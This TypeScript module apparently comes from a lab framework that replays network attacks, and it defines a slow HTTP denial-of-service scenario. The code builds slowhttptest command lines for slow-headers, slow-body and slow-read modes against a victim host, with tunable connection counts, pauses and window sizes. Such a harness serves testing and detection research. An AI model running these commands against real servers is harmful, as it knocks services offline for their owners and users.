import type { Attack, TimeWindow } from '../scenario.ts';
import { type Aim, towards } from './footprint.ts';

/** One attacker's slowhttptest against an HTTP server. */
export interface SlowDos {
  readonly attacker: number;
  /** headers: requests that never end. body: uploads that never end. read: answers that nobody takes. */
  readonly mode: 'headers' | 'body' | 'read';
  readonly aim: Aim;
  readonly tls: boolean;
  readonly path: string;
  readonly connections: number;
  /** New connections per second until there are `connections`. */
  readonly connectionsPerSecond: number;
  /** Whole seconds between two pieces of a request, or between two reads of an answer. */
  readonly pauseSeconds: number;
  /** Most bytes of one piece (headers, body); bytes of one read. */
  readonly pieceBytes: number;
  /** Greatest receive window that a slow reader offers, bytes. */
  readonly windowBytes: number;
}

const MODE_FLAG: Record<SlowDos['mode'], string> = { headers: '-H', body: '-B', read: '-X' };
/** What a slow upload announces. */
const CONTENT_LENGTH = '65536';

/** The attack; slowhttptest also asks for a page each second, to see whether the server still answers others. */
export function slowDos(attack: SlowDos, window: TimeWindow): Attack {
  return {
    ...window,
    family: 'slow-dos',
    async play(lab, signal) {
      const { ip } = lab.hosts[attack.aim.victim];
      const url = `${attack.tls ? 'https' : 'http'}://${ip}:${attack.aim.port}${attack.path}`;
      await lab.run(lab.hosts.attackers[attack.attacker], slowCommand(attack, window, url), signal);
    },
    footprint: towards(attack.attacker, attack.aim),
  };
}

function slowCommand(attack: SlowDos, window: TimeWindow, url: string): string[] {
  const seconds = Math.ceil((window.endMs - window.startMs) / 1_000);
  const count = ['-c', String(attack.connections), '-r', String(attack.connectionsPerSecond), '-l', String(seconds)];
  const shape = {
    headers: ['-i', String(attack.pauseSeconds), '-x', String(attack.pieceBytes)],
    body: ['-i', String(attack.pauseSeconds), '-x', String(attack.pieceBytes), '-s', CONTENT_LENGTH],
    read: [
      '-n',
      String(attack.pauseSeconds),
      '-z',
      String(attack.pieceBytes),
      // A page is fetched three times over one connection: a small one would fit into the socket's own buffer.
      '-w',
      '1',
      '-y',
      String(attack.windowBytes),
      '-k',
      '3',
    ],
  };
  return ['slowhttptest', MODE_FLAG[attack.mode], ...count, ...shape[attack.mode], '-p', '3', '-u', url];
}
